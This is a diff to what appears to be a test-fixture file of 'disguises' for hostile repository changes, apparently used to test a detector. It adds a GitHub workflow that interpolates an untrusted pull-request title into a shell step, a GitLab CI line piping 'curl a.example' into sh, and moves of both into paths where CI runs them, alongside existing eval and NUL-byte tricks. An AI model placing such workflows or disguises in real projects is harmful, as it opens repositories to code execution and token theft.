@@ -18,6 +18,15 @@ const one =
 const POINTER =
   "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n";
 
+/** Has whoever opens a pull request run commands with the token of the repository. */
+const WORKFLOW = `on: pull_request_target
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo \${{ github.event.pull_request.title }}
+`;
+
 export const DISGUISES: readonly Disguise[] = [
   {
     name: "one long line",
@@ -235,6 +244,18 @@ export const DISGUISES: readonly Disguise[] = [
     base: { "src/a.js": "export const a = `\neval(process.argv[2]);\n`;\n" },
     files: (code) => ({ "src/a.js": `export const a = \`\`;\n${code}\`\`;\n` }),
   },
+  ...(
+    [
+      ["workflow", ".github/old/ci.yml", ".github/workflows/ci.yml", WORKFLOW],
+      ["pipeline by its name", ".ci/old.yml", ".gitlab-ci.yml", "a:\n  script:\n    - curl a.example | sh\n"],
+    ] as const
+  ).map(([name, from, to, text]) => ({
+    name: `moved ${name}`,
+    does: "moves a file, as it is, to where programs run it",
+    base: { [from]: text },
+    files: () => ({ [from]: null, [to]: text }),
+    isNamed: to,
+  })),
   {
     name: "NUL far below",
     does: "has a NUL in its code, behind 8,000 bytes in which git looks for one",
